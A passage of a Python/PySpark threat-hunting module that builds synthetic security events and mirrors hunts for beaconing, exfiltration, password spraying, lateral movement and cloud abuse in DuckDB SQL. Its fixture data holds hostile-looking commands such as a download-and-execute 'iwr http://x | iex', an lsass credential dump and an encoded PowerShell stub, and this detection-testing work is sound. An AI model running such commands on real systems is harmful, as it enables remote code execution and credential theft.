"""The hunts themselves over the driver's tables: these become canonical events, and SQL says what each hunt must find."""

from __future__ import annotations

import ipaddress
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from functools import reduce

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from trailspark.functions import scores, text
from trailspark.hunts import HUNTS, cloud, endpoint, identity, network
from trailspark.hunts.baseline import KEYS, Baseline, merged
from trailspark.hunts.context import INTERNAL, Context, address_facts
from trailspark.operators.scratch import scratch_path, written
from trailspark.plans import spark_sql
from trailspark.plans.engine import MOST_LINKED, coverage, leads, reviewed
from trailspark.schema import EVENT_SCHEMA, TACTICS, HuntConfig, Thresholds
from trailspark.sources import ingest

T0 = 1_704_067_200_000_000
HALF = 15 * 86_400_000_000
MINUTE = 60_000_000

LIMITS = Thresholds(
    beacon_min_connections=4, beacon_max_jitter=0.9, dns_min_subdomains=2, dns_min_entropy=1.0, dns_min_label_length=4, dga_min_nxdomain=2, spray_min_users=5, spray_window_minutes=60,
    bruteforce_min_failures=3, travel_window_hours=1.0, fanout_min_hosts=3, exfil_min_bytes=150_000_000, enumeration_min_apis=3, enumeration_window_minutes=60,
)
CONFIG = HuntConfig(LIMITS, ioc_ips=("203.0.113.3", "198.51.100.9"), geo=(("198.51.100.0/28", "US"), ("198.51.100.16/28", "BR"), ("198.51.100.0/24", "CA")))

#: Canonical events by kind, as SQL that Spark and DuckDB both read: `u` user, `k` key, `v` value, `us` time, `late` in the window.
_PROJECTIONS = {
    "flow": ("view", {"host": "concat('h', u % 20)", "dst_ip": "concat('203.0.113.', CASE WHEN late AND k % 10 = 0 THEN 200 + k % 8 ELSE k % 8 END)", "dst_port": "443", "bytes_out": "CAST(floor(v * 1000000) AS BIGINT)"}),
    "sign_in": ("signup", {"host": "concat('s', k % 20)", "user": "concat('u', u % 40)", "src_ip": "concat('198.51.100.', k % 40)", "outcome": "'success'", "src_host": "concat('w', u % 8)"}),
    "failure": ("error", {"host": "concat('s', k % 20)", "user": "concat('u', u % 40)", "src_ip": "concat('198.51.100.', k % 40)", "outcome": "'failure'"}),
    "cloud": ("purchase", {
        "user": "CASE WHEN u % 40 = 0 THEN 'root' ELSE concat('u', u % 40) END", "src_ip": "concat('192.0.2.', k % 3)", "outcome": "CASE WHEN u % 5 = 0 THEN 'failure' ELSE 'success' END", "mfa": "CASE k % 3 WHEN 0 THEN false WHEN 1 THEN true END",
        "api": "CASE WHEN k % 11 = 0 THEN 'CreateUser' WHEN k % 13 = 0 THEN 'StopLogging' WHEN k % 4 = 0 THEN concat('List', k % 7) WHEN k % 4 = 1 THEN concat('Describe', k % 7) ELSE concat('Put', k % 7) END",
    }),
    "process": ("click", {
        "host": "concat('h', u % 20)", "user": "concat('u', u % 40)",
        "process": "CASE WHEN late AND k % 10 = 7 THEN CASE WHEN u % 20 = 3 THEN 'c:/users/public/svch0st.exe' ELSE concat('c:/tools/made', u % 20, '.exe') END WHEN k % 2 = 0 THEN 'c:/windows/powershell.exe' ELSE 'c:/windows/notepad.exe' END",
        "parent": "CASE WHEN k % 4 = 0 THEN 'c:/office/WINWORD.EXE' ELSE 'c:/windows/explorer.exe' END",
        "cmdline": "CASE k % 6 WHEN 0 THEN 'schtasks /create /tn t' WHEN 1 THEN 'iwr http://x | iex' WHEN 2 THEN 'x -enc AAAABBBBCCCCDDDDEEEEFFFF' WHEN 3 THEN 'procdump -ma lsass.exe' WHEN 4 THEN 'New-Service -Name x' ELSE 'a.txt' END",
    }),
}
_KIND = {"sign_in": "auth", "failure": "auth"}


def _read(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{table}.parquet")


def _context(spark: SparkSession, sf_dir: str, squeeze: int = 100, config: HuntConfig = CONFIG) -> Context:
    """Window and baseline: the later and the earlier half of the events' month, squeezed so that bursts are dense."""
    rows = _read(spark, sf_dir, "events").withColumn("us", T0 + F.floor((scores.micros(F.col("ts")) - T0) / squeeze))
    rows = rows.select(F.col("event_id").cast("string").alias("id"), "us", "event_type", F.col("user_id").alias("u"), F.get_json_object("props", "$.k").cast("int").alias("k"), F.col("value").alias("v"), (F.col("us") >= T0 + HALF // squeeze).alias("late"))
    fields = dict(part.split(" ") for part in EVENT_SCHEMA.split(", "))
    parts = []
    for name, (event_type, columns) in _PROJECTIONS.items():
        given = {c: F.expr(e) for c, e in columns.items()} | {"id": F.col("id"), "time": F.timestamp_micros("us"), "kind": F.lit(_KIND.get(name, name)), "source": F.lit("table")}
        attrs = F.create_map(F.lit("logon_type"), F.lit("3"), F.lit("src_host"), given.pop("src_host")) if name == "sign_in" else F.create_map().cast("map<string,string>")
        empty = {c: F.lit("") if kind == "string" else F.lit(None) for c, kind in fields.items()} | {"attrs": attrs}
        parts.append(rows.where(F.col("event_type") == event_type).select(*[(given.get(c, empty[c])).cast(kind).alias(c) for c, kind in fields.items()], "late"))
    events = parts[0]
    for part in parts[1:]:
        events = events.unionByName(part)
    return Context(events.where("late").drop("late"), events.where("not late").drop("late"), config)


def _dns(spark: SparkSession, sf_dir: str, config: HuntConfig = CONFIG) -> Context:
    """Lookups of the hosts of all pages."""
    host = F.lower(F.regexp_extract("url", r"^[a-z]+://([^/?#:]+)", 1))
    rows = _read(spark, sf_dir, "pages").select(F.col("page_id").cast("string").alias("id"), F.timestamp_micros(T0 + F.col("page_id") * 1_000_000).alias("time"), F.concat(F.lit("h"), F.col("page_id") % 3).alias("host"), host.alias("domain"), F.when(F.col("page_id") % 2 == 0, "failure").otherwise("success").alias("outcome"), F.when(F.col("page_id") % 3 == 0, "TXT").otherwise("A").alias("query_type"))
    given = set(rows.columns)
    fields = [part.split(" ") for part in EVENT_SCHEMA.split(", ")]
    empty = {"kind": F.lit("dns"), "attrs": F.create_map().cast("map<string,string>")}
    rows = rows.select(*[(F.col(c) if c in given else empty.get(c, F.lit("") if kind == "string" else F.lit(None))).cast(kind).alias(c) for c, kind in fields])
    return Context(rows, rows.where("false"), config)


def _shown(found: DataFrame) -> DataFrame:
    lists = [F.array_join(c, ",").alias(c) for c in ("hosts", "users", "ips", "domains")]
    cited = [F.size("event_ids").alias("cited")] if "event_ids" in found.columns else []
    return found.select("id", "hunt", "title", "score", "severity", "tactic", *lists, F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"), *cited, "ioc_match")


def _events_sql(name: str, squeeze: int = 100) -> str:
    event_type, columns = _PROJECTIONS[name]
    own = ", ".join(f"{e} AS {c}" for c, e in columns.items())
    return f"""(SELECT id, us, late, {own} FROM (SELECT *, us >= {T0 + HALF // squeeze} AS late FROM (
        SELECT event_id::VARCHAR AS id, {T0} + (epoch_us(ts) - {T0}) // {squeeze} AS us, event_type, user_id AS u, json_extract_string(props, '$.k')::INT AS k, value AS v FROM events
    )) WHERE event_type = '{event_type}')"""


def _findings_sql(rows: str, hunt: str) -> str:
    """What every finding has: indicators, clamped score, severity, id. rows: title, base, tactic, lists, first_us, last_us, cited."""
    known = ", ".join(f"'{ip}'" for ip in CONFIG.ioc_ips)
    return f"""
        WITH r AS ({rows}), s AS (
            SELECT *, list_has_any(ips, [{known}]) AS ioc_match, least(100, base + CASE WHEN list_has_any(ips, [{known}]) THEN 15 ELSE 0 END)::INT AS score,
                   strftime(make_timestamp(first_us), '%Y-%m-%dT%H:%M:%S') || CASE WHEN first_us % 1000000 <> 0 THEN '.' || lpad((first_us % 1000000)::VARCHAR, 6, '0') ELSE '' END || '+00:00' AS moment FROM r
        )
        SELECT 'F-' || upper(substr(sha256(array_to_string(list_concat(['{hunt}', title], hosts, users, ips, domains, [moment]), '|')), 1, 10)) AS id, '{hunt}' AS hunt, title, score,
               CASE WHEN score >= 85 THEN 'critical' WHEN score >= 70 THEN 'high' WHEN score >= 45 THEN 'medium' ELSE 'low' END AS severity, tactic,
               array_to_string(hosts, ',') AS hosts, array_to_string(users, ',') AS users, array_to_string(ips, ',') AS ips, array_to_string(domains, ',') AS domains,
               first_us, last_us, least(50, cited)::INT AS cited, ioc_match FROM s
    """


_NONE = "[]::VARCHAR[]"


def hunt_beaconing(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(network.beaconing(_context(spark, sf_dir)))


_BEACONING = f"""
    SELECT 'Regular connections from ' || host || ' to ' || dst_ip || ':443' AS title, 'Command and Control' AS tactic, [host] AS hosts, {_NONE} AS users, [dst_ip] AS ips, {_NONE} AS domains, first_us, last_us, n AS cited,
           50 + trunc(25 * (1 - jitter / {LIMITS.beacon_max_jitter})) + least(15, (n - {LIMITS.beacon_min_connections}) // 2)
           + CASE WHEN (host, dst_ip) IN (SELECT (host, dst_ip) FROM {_events_sql("flow")} WHERE NOT late) THEN 0 ELSE 10 END AS base
    FROM (SELECT host, dst_ip, count(*) AS n, avg(gap) AS mean, CASE WHEN count(gap) >= 2 AND avg(gap) > 0 THEN stddev_pop(gap) / avg(gap) ELSE 'inf'::DOUBLE END AS jitter, min(us) AS first_us, max(us) AS last_us
          FROM (SELECT *, (us - lag(us) OVER (PARTITION BY host, dst_ip ORDER BY us, id)) / 1000000.0 AS gap FROM {_events_sql("flow")} WHERE late) GROUP BY ALL)
    WHERE n >= {LIMITS.beacon_min_connections} AND mean >= {LIMITS.beacon_min_interval_seconds} AND jitter <= {LIMITS.beacon_max_jitter}
"""


def hunt_exfiltration(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(network.exfiltration(_context(spark, sf_dir, 1)))


_EXFILTRATION = f"""
    SELECT host || ' sent ' || printf('%.0f', volume / 1000000) || ' MB to ' || dst_ip AS title, 'Exfiltration' AS tactic, [host] AS hosts, {_NONE} AS users, [dst_ip] AS ips, {_NONE} AS domains, first_us, last_us, n AS cited,
           50 + CASE WHEN new THEN 15 ELSE 0 END + CASE WHEN z >= 3 THEN 15 ELSE 0 END + CASE WHEN off >= 0.5 THEN 10 ELSE 0 END + least(10, trunc(10 * log10(volume / {LIMITS.exfil_min_bytes} + 1))) AS base
    FROM (
        SELECT p.*, (host, dst_ip) NOT IN (SELECT (host, dst_ip) FROM f WHERE NOT late) AS new,
               CASE WHEN per_day < 2 * median THEN least(raw, {LIMITS.exfil_min_zscore - 0.01}) ELSE raw END AS z
        FROM (SELECT host, dst_ip, sum(bytes_out) AS volume, count(*) AS n, min(us) AS first_us, max(us) AS last_us, avg(CASE WHEN hour(make_timestamp(us)) >= 22 OR hour(make_timestamp(us)) < 6 THEN 1.0 ELSE 0.0 END) AS off FROM f WHERE late AND bytes_out > 0 GROUP BY ALL) p
        JOIN (
            SELECT host, per_day, median, CASE WHEN n IS NULL OR n < 3 THEN 0.0 WHEN mad > 0 THEN 0.6745 * (per_day - median) / mad WHEN dev > 0 THEN (per_day - mean) / dev ELSE 0.0 END AS raw
            FROM (SELECT host, sum(bytes_out) / (SELECT greatest(1.0, (max(us) - min(us)) / 86400000000.0) FROM w) AS per_day FROM f WHERE late AND bytes_out > 0 GROUP BY 1)
            LEFT JOIN (SELECT host, count(*) AS n, median(total) AS median, avg(total) AS mean, stddev_pop(total) AS dev FROM d GROUP BY 1) USING (host)
            LEFT JOIN (SELECT host, median(abs(total - m)) AS mad FROM d JOIN (SELECT host, median(total) AS m FROM d GROUP BY 1) USING (host) GROUP BY 1) USING (host)
        ) USING (host)
    ) WHERE volume >= {LIMITS.exfil_min_bytes} AND (new OR z >= {LIMITS.exfil_min_zscore})
"""
_EXFILTRATION_WITH = f"""WITH f AS {_events_sql("flow", 1)}, w AS (SELECT epoch_us(ts) AS us FROM events WHERE epoch_us(ts) >= {T0 + HALF}),
    d AS (SELECT host, make_timestamp(us)::DATE AS day, sum(bytes_out)::DOUBLE AS total FROM f WHERE NOT late GROUP BY ALL)"""


def _best(rows: str, width_us: int, least: int, cap: int | None = None) -> str:
    """(k, n, size, start_us, end_us, items): each key's best trailing window over rows (k, us, id, item)."""
    return f"""(
        WITH e AS ({rows}), r AS (SELECT *, row_number() OVER (PARTITION BY k ORDER BY us, id) AS rn FROM e),
        p AS (SELECT a.k, a.rn, a.us AS end_us, b.us, b.item FROM r a JOIN r b ON a.k = b.k AND b.us BETWEEN a.us - {width_us} AND a.us AND b.rn <= a.rn),
        i AS (SELECT k, rn, end_us, item, count(*) AS times, min(us) AS us FROM p GROUP BY ALL),
        w AS (SELECT k, rn, end_us, count(*) AS n, sum(times) AS size, max(times) AS most, min(us) AS start_us, list(item ORDER BY item) AS items FROM i GROUP BY ALL)
        SELECT * FROM w WHERE n >= {least} {f"AND most <= {cap}" if cap else ""} QUALIFY row_number() OVER (PARTITION BY k ORDER BY n DESC, rn) = 1
    )"""


def hunt_spray(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(identity.spray(_context(spark, sf_dir)))


_SPRAY = f"""
    SELECT 'Password spray from ' || k || ' against ' || n || ' accounts' || CASE WHEN wins > 0 THEN ' with a successful sign-in' ELSE '' END AS title, 'Credential Access' AS tactic,
           {_NONE} AS hosts, items AS users, [k] AS ips, {_NONE} AS domains, start_us AS first_us, greatest(end_us, coalesce(last_win, 0)) AS last_us, size + wins AS cited,
           55 + least(15, 2 * (n - {LIMITS.spray_min_users})) + CASE WHEN wins > 0 THEN 25 ELSE 0 END AS base
    FROM (SELECT k, n, size, start_us, end_us, items, count(s.id) AS wins, max(s.us) AS last_win
          FROM {_best(f'SELECT src_ip AS k, us, id, "user" AS item FROM {_events_sql("failure")} WHERE late', LIMITS.spray_window_minutes * MINUTE, LIMITS.spray_min_users, LIMITS.spray_max_attempts_per_user)} b
          LEFT JOIN {_events_sql("sign_in")} s ON s.late AND s.src_ip = b.k AND s.us >= b.start_us AND list_contains(b.items, s."user") GROUP BY ALL)
"""


def hunt_brute_force(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(identity.brute_force(_context(spark, sf_dir)))


_BRUTE_FORCE = f"""
    SELECT size || ' failed sign-ins for ' || account || ' in 10 minutes' || CASE WHEN wins > 0 THEN ', then a success' ELSE '' END AS title, 'Credential Access' AS tactic, {_NONE} AS hosts, [account] AS users,
           list_sort(list_distinct(list_concat(ips, coalesce(win_ips, {_NONE})))) AS ips, {_NONE} AS domains, start_us AS first_us, greatest(end_us, coalesce(last_win, 0)) AS last_us, size + wins AS cited,
           50 + least(20, size - {LIMITS.bruteforce_min_failures}) + CASE WHEN wins > 0 THEN 25 ELSE 0 END AS base
    FROM (
        SELECT b.*, count(s.id) AS wins, max(s.us) AS last_win, list(s.src_ip) FILTER (s.id IS NOT NULL) AS win_ips
        FROM (
            WITH r AS (SELECT *, row_number() OVER (PARTITION BY "user" ORDER BY us, id) AS rn FROM {_events_sql("failure")} WHERE late)
            SELECT a."user" AS account, a.rn, a.us AS start_us, count(*) AS size, max(b.us) AS end_us, list(b.src_ip) AS ips
            FROM r a JOIN r b ON a."user" = b."user" AND b.rn >= a.rn AND b.us <= a.us + {10 * MINUTE} GROUP BY a."user", a.rn, a.us HAVING count(*) >= {LIMITS.bruteforce_min_failures}
            QUALIFY row_number() OVER (PARTITION BY a."user" ORDER BY a.rn) = 1
        ) b LEFT JOIN {_events_sql("sign_in")} s ON s.late AND s."user" = b.account AND s.us BETWEEN b.end_us AND b.end_us + {10 * MINUTE} GROUP BY ALL
    )
"""


def hunt_lateral_fanout(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(identity.lateral_fanout(_context(spark, sf_dir)))


_FANOUT = f"""
    SELECT split_part(k, '|', 1) || ' reached ' || n || ' hosts from ' || split_part(k, '|', 2) || ' in {LIMITS.fanout_window_minutes} minutes' AS title, 'Lateral Movement' AS tactic,
           list_sort(list_append(items, split_part(k, '|', 2))) AS hosts, [split_part(k, '|', 1)] AS users, {_NONE} AS ips, {_NONE} AS domains, start_us AS first_us, end_us AS last_us, size AS cited,
           55 + least(20, 4 * (n - {LIMITS.fanout_min_hosts})) + CASE WHEN fresh = n THEN 10 ELSE 0 END AS base
    FROM (SELECT b.*, len(list_filter(list_transform(items, lambda h: split_part(k, '|', 1) || '|' || h), lambda h: NOT list_contains(old, h))) AS fresh
          FROM (SELECT list(DISTINCT "user" || '|' || host) AS old FROM {_events_sql("sign_in")} WHERE NOT late), {_best(f'''SELECT "user" || '|' || src_host AS k, us, id, host AS item FROM {_events_sql("sign_in")} WHERE late''', LIMITS.fanout_window_minutes * MINUTE, LIMITS.fanout_min_hosts)} b)
    WHERE 2 * fresh >= n
"""


def hunt_impossible_travel(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(identity.impossible_travel(_context(spark, sf_dir)))


_TRAVEL = f"""
    WITH g AS (SELECT *, CASE WHEN split_part(src_ip, '.', 4)::INT < 16 THEN 'US' WHEN split_part(src_ip, '.', 4)::INT < 32 THEN 'BR' ELSE 'CA' END AS country FROM {_events_sql("sign_in")}),
    p AS (SELECT *, lag(us) OVER o AS before, lag(country) OVER o AS from_country, lag(src_ip) OVER o AS from_ip FROM g WHERE late WINDOW o AS (PARTITION BY "user" ORDER BY us, id))
    SELECT "user" || ' signed in from ' || from_country || ' and ' || country || ' within ' || printf('%.1f', (us - before) / 3600000000.0) || ' hours' AS title, 'Initial Access' AS tactic, {_NONE} AS hosts, ["user"] AS users,
           list_sort(list_distinct([from_ip, src_ip])) AS ips, {_NONE} AS domains, before AS first_us, us AS last_us, 2 AS cited,
           55 + CASE WHEN "user" IN (SELECT "user" FROM g WHERE NOT late) AND ("user", country) NOT IN (SELECT ("user", country) FROM g WHERE NOT late) THEN 15 ELSE 0 END + trunc(15 * (1 - (us - before) / 3600000000.0 / {LIMITS.travel_window_hours})) AS base
    FROM p WHERE from_country <> country AND us - before <= {LIMITS.travel_window_hours} * 3600000000
"""


def hunt_cloud_abuse(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(cloud.cloud_abuse(_context(spark, sf_dir)))


def _calls_sql(title: str, base: str, tactic: str, where: str) -> str:
    return f"""SELECT {title} AS title, '{tactic}' AS tactic, {_NONE} AS hosts, ["user"] AS users, list_sort(list(DISTINCT src_ip)) AS ips, {_NONE} AS domains, min(us) AS first_us, max(us) AS last_us, count(*) AS cited, {base} AS base
               FROM {_events_sql("cloud")} WHERE late AND {where} GROUP BY "user\""""


_CLOUD = " UNION ALL ".join((
    _calls_sql("'Root account used ' || count(*) || ' time(s)'", "70", "Initial Access", "\"user\" = 'root' AND outcome = 'success'"),
    _calls_sql("\"user\" || ' changed permissions or credentials without MFA'", "65 + least(10, 3 * (count(*) - 1))", "Persistence", "api = 'CreateUser' AND outcome = 'success' AND mfa = false"),
    _calls_sql("\"user\" || ' tried to weaken cloud logging or detection'", "85", "Defense Evasion", "api = 'StopLogging'"),
    f"""SELECT split_part(k, '|', 1) || ' enumerated the environment from ' || split_part(k, '|', 2) AS title, 'Discovery' AS tactic, {_NONE} AS hosts, [split_part(k, '|', 1)] AS users, [split_part(k, '|', 2)] AS ips, {_NONE} AS domains,
               start_us AS first_us, end_us AS last_us, size AS cited,
               50 + CASE WHEN k IN (SELECT "user" || '|' || src_ip FROM {_events_sql("cloud")} WHERE NOT late) THEN 0 ELSE 15 END + least(10, n - {LIMITS.enumeration_min_apis}) AS base
        FROM {_best(f'''SELECT "user" || '|' || src_ip AS k, us, id, api AS item FROM {_events_sql("cloud")} WHERE late AND regexp_matches(api, '^(List|Describe|Get)')''', LIMITS.enumeration_window_minutes * MINUTE, LIMITS.enumeration_min_apis)}""",
))


def hunt_process_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    ctx = _context(spark, sf_dir)
    return _shown(endpoint.process_chains(ctx).unionByName(endpoint.persistence(ctx)))


def _rules_sql(rules: tuple[endpoint.ProcessRule, ...]) -> str:
    name = lambda column: f"lower(regexp_extract({column}, '[^/]*$'))"
    some = lambda values: "(" + ", ".join(f"'{v}'" for v in values) + ")"
    out = []
    for r in rules:
        tests = [f"{name('parent')} IN {some(r.parents)}"] * bool(r.parents) + [f"{name('process')} IN {some(r.images)}"] * bool(r.images) + [f"regexp_matches(process || ' ' || cmdline, '(?i){r.pattern}')"] * bool(r.pattern)
        out.append(f"""SELECT '{r.title} on ' || host AS title, '{r.tactic}' AS tactic, [host] AS hosts, ["user"] AS users, {_NONE} AS ips, {_NONE} AS domains, min(us) AS first_us, max(us) AS last_us, count(*) AS cited,
                              {r.score} + least(10, 2 * (count(*) - 1)) AS base FROM {_events_sql("process")} WHERE late AND {" AND ".join(tests)} GROUP BY host, "user\"""")
    return " UNION ALL ".join(out)


def hunt_rare_process(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(endpoint.rare_process(_context(spark, sf_dir)))


_IMAGE = "lower(regexp_extract(process, '[^/]*$'))"
_NEAR = "coalesce(" + ", ".join(f"CASE WHEN length(image) >= 6 AND image <> '{n}' AND levenshtein(image, '{n}') <= 2 THEN '{n}' END" for n in endpoint.SYSTEM_NAMES) + ", '')"
_RARE = f"""
    SELECT 'Rare process ' || image || ' on ' || n || ' host(s)' AS title, 'Defense Evasion' AS tactic, hosts, users, {_NONE} AS ips, {_NONE} AS domains, first_us, last_us, cited,
           35 + CASE WHEN path LIKE '%/users/public/%' THEN 20 ELSE 0 END + CASE WHEN {_NEAR} <> '' THEN 30 ELSE 0 END AS base
    FROM (SELECT {_IMAGE} AS image, count(DISTINCT host) AS n, list_sort(list(DISTINCT host)) AS hosts, list_sort(list(DISTINCT "user")) AS users, min(us) AS first_us, max(us) AS last_us, count(*) AS cited, min(process) AS path
          FROM {_events_sql("process")} WHERE late AND {_IMAGE} NOT IN (SELECT {_IMAGE} FROM {_events_sql("process")} WHERE NOT late) GROUP BY 1)
    WHERE n <= {LIMITS.rare_max_hosts}
"""


def coverage_blind(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Techniques that no hunt covers, given the kinds of events that the table's most frequent types stand for."""
    kinds = {"view": "flow", "click": "process", "purchase": "cloud"}
    counts = {kinds[r.event_type]: r["count"] for r in _read(spark, sf_dir, "events").where(F.col("event_type").isin(*kinds)).groupBy("event_type").count().collect()}
    return spark.createDataFrame([(t,) for t in coverage(counts)["blind"]], "technique string")


_HUNTS_SQL = ", ".join(f"('{h.needs[0]}', '{t}')" for h in HUNTS.values() for t in h.techniques)


def redact_secrets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Texts in which credentials are found, by the digest of what is left."""
    docs = _read(spark, sf_dir, "documents").select(F.lit("documents").alias("origin"), F.col("doc_id").alias("id"), "text")
    talk = _read(spark, sf_dir, "conversations").select(F.lit("conversations").alias("origin"), (F.col("conv_id") * 1000 + F.col("turn")).alias("id"), "text")
    both = docs.unionByName(talk).withColumn("clean", text.redact(F.col("text")))
    return both.where("clean <> text").select("origin", "id", F.md5("clean").alias("clean_md5"))


def _redact_sql(column: str) -> str:
    """The same replacements without lookahead: what is replaced is one character until the end, too short to match again."""
    plain = lambda p: p.replace("(?iuUd)", "").replace("(?i)", "").replace(r"(?!\[REDACTED\])", "").replace("'", "''")
    out = f"regexp_replace({column}, '{plain(text.FLAG_SECRET)}', '\\1\\2' || chr(1), 'gi')"
    for pattern in text.SECRET_PATTERNS:
        out = f"regexp_replace({out}, '{plain(pattern)}', chr(1), '{'gi' if '(?i)' in pattern else 'g'}')"
    return f"replace(regexp_replace({out}, '{plain(text.KEY_SECRET)}', '\\1 ' || chr(1), 'gi'), chr(1), '[REDACTED]')"


def adapt_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as raw flow and sign-in records, read by their adapters: fields, ids and reasons."""
    rows = _read(spark, sf_dir, "events").select("event_id", "event_type", "user_id", scores.micros(F.col("ts")).alias("us"), F.col("value").alias("v"))
    seconds, bad = F.floor(F.col("us") / 1_000_000), F.col("event_id") % 7 == 0
    record = F.concat(F.lit('{"bytes_sent":"'), F.floor(F.col("v") * 1000), F.lit('","destination_ip":"'), F.when(bad, "203.0.113.999").otherwise(F.concat(F.lit("203.0.113."), F.col("user_id") % 200)), F.lit('","result":"'), F.when(F.col("event_id") % 5 == 0, "maybe").when(F.col("event_id") % 2 == 0, "Denied").otherwise("OK"), F.lit('","time":'), seconds, F.lit(',"user":"CORP\\\\U'), F.col("user_id"), F.lit('@x.org"}'))
    lines = rows.select(record.alias("value"), F.lit("table").alias("file"), F.col("event_id").alias("place"))
    out = None
    for source in ("flow", "auth"):
        found = ingest.adapted(lines, source).select(F.lit(source).alias("format"), F.col("place").alias("event_id"), "reason", F.when(F.col("reason") == "", F.col("id")).alias("id"), F.unix_micros("time").alias("us"), "user", "outcome", "dst_ip", "bytes_out")
        out = found if out is None else out.unionByName(found)
    return out


_RECORDS = """(SELECT event_id, epoch_us(ts) // 1000000 AS s, user_id AS u, floor(value * 1000)::BIGINT AS b,
    CASE WHEN event_id % 7 = 0 THEN '203.0.113.999' ELSE '203.0.113.' || (user_id % 200) END AS ip, CASE WHEN event_id % 5 = 0 THEN 'maybe' WHEN event_id % 2 = 0 THEN 'Denied' ELSE 'OK' END AS result FROM events)"""
_LINE = """'{"bytes_sent":"' || b || '","destination_ip":"' || ip || '","result":"' || result || '","time":' || s || ',"user":"CORP\\\\U' || u || '@x.org"}'"""
_ADAPT = f"""
    SELECT 'flow' AS format, event_id, CASE WHEN event_id % 7 = 0 THEN 'no usable destination address' ELSE '' END AS reason, CASE WHEN event_id % 7 <> 0 THEN 'flow:' || substr(sha256({_LINE}), 1, 14) END AS id,
           s * 1000000 AS us, 'u' || u AS "user", '' AS outcome, CASE WHEN event_id % 7 = 0 THEN '' ELSE ip END AS dst_ip, b AS bytes_out FROM {_RECORDS}
    UNION ALL
    SELECT 'auth', event_id, CASE WHEN event_id % 5 = 0 THEN 'result is neither a success nor a failure' ELSE '' END, CASE WHEN event_id % 5 <> 0 THEN 'auth:' || substr(sha256({_LINE}), 1, 14) END,
           s * 1000000, 'u' || u, CASE result WHEN 'OK' THEN 'success' WHEN 'Denied' THEN 'failure' ELSE '' END, '', NULL FROM {_RECORDS}
"""


#: A record of each further format as SQL that Spark and DuckDB both read (`e` event, `u` user, `s` second), and what it must
#: become: the reason for a reject, and the event's fields.
_FEEDS = {
    "sysmon": (
        """concat('{"Computer":"H', u % 20, '.Corp","EventData":{"CommandLine":"run --token=abc', e, ' -v","DestinationIp":"203.0.113.', u % 200, '","DestinationPort":"', e % 70000, '","Image":"C:/Tools/A', u % 9, '.EXE","QueryName":" N', u, '.Example.ORG. ","QueryStatus":"', CASE WHEN e % 8 = 2 THEN 9003 ELSE 0 END, '","QueryType":"txt"},"EventID":', CASE e % 4 WHEN 0 THEN 1 WHEN 1 THEN 3 WHEN 2 THEN 22 ELSE 7 END, ',"User":"U', u, '@corp.org","UtcTime":', s, '}')""",
        "CASE WHEN e % 4 = 3 THEN 'event id without an adapter' ELSE '' END",
        {"kind": "CASE e % 4 WHEN 0 THEN 'process' WHEN 1 THEN 'flow' ELSE 'dns' END", "host": "concat('h', u % 20, '.corp')", "user": "concat('u', u)", "process": "concat('C:/Tools/A', u % 9, '.EXE')",
         "cmdline": "CASE WHEN e % 4 = 0 THEN 'run --token=[REDACTED] -v' ELSE '' END", "dst_ip": "CASE WHEN e % 4 = 1 THEN concat('203.0.113.', u % 200) ELSE '' END", "dst_port": "CASE WHEN e % 4 = 1 AND e % 70000 < 65536 THEN e % 70000 END",
         "domain": "CASE WHEN e % 4 = 2 THEN concat('n', u, '.example.org') ELSE '' END", "query_type": "CASE WHEN e % 4 = 2 THEN 'TXT' ELSE '' END", "outcome": "CASE WHEN e % 4 <> 2 THEN '' WHEN e % 8 = 2 THEN 'failure' ELSE 'success' END"},
    ),
    "dns": (
        """concat('{"client":"H', u % 20, '","client_ip":"[203.0.113.', u % 200, ']","qtype":"a","query":"', CASE WHEN e % 5 = 0 THEN 'no name' ELSE concat('N', u, '.Example.ORG') END, '","rcode":"', CASE WHEN e % 3 = 0 THEN 'nxdomain' ELSE 'NOERROR' END, '","timestamp":"', s, '"}')""",
        "CASE WHEN e % 5 = 0 THEN 'no usable query name' ELSE '' END",
        {"kind": "'dns'", "host": "concat('h', u % 20)", "domain": "concat('n', u, '.example.org')", "query_type": "'A'", "outcome": "CASE WHEN e % 3 = 0 THEN 'failure' ELSE 'success' END"},
    ),
    "cloudtrail": (
        """concat('{"additionalEventData":{"MFAUsed":"', CASE WHEN e % 2 = 0 THEN 'Yes' ELSE 'No' END, '"},"awsRegion":"eu-', u % 3, '","errorCode":"', CASE WHEN e % 3 = 0 THEN 'AccessDenied' ELSE '' END, '","eventName":', CASE WHEN e % 7 = 0 THEN 'null' ELSE '"GetObject"' END, ',"eventTime":', s, ',"userIdentity":{"principalId":"P', u, '","type":"', CASE WHEN e % 4 = 0 THEN 'Root' ELSE 'User' END, '","userName":"', CASE WHEN e % 8 < 2 THEN '' ELSE concat('U', u) END, '"}}')""",
        "CASE WHEN e % 7 = 0 THEN 'no event name' ELSE '' END",
        {"kind": "'cloud'", "user": "CASE WHEN e % 8 >= 2 THEN concat('u', u) WHEN e % 8 = 0 THEN 'root' ELSE concat('p', u) END", "api": "'GetObject'", "mfa": "e % 2 = 0", "outcome": "CASE WHEN e % 3 = 0 THEN 'failure' ELSE 'success' END",
         "attrs": "CASE WHEN e % 3 = 0 THEN concat('error=AccessDenied,region=eu-', u % 3) ELSE concat('region=eu-', u % 3) END"},
    ),
    "generic": (
        """concat('{"attrs":{"note":"n', u, '"},"cmdline":"curl -H password=hunter', e, '","dst_port":', CASE WHEN e % 6 = 0 THEN '"443"' WHEN e % 6 = 1 THEN 'null' ELSE '443' END, ',"host":"H', u, '","kind":"', CASE WHEN e % 11 = 0 THEN 'other' ELSE 'process' END, '","time":', s, '}')""",
        "CASE WHEN e % 6 = 0 OR e % 11 = 0 THEN 'not a canonical event' ELSE '' END",
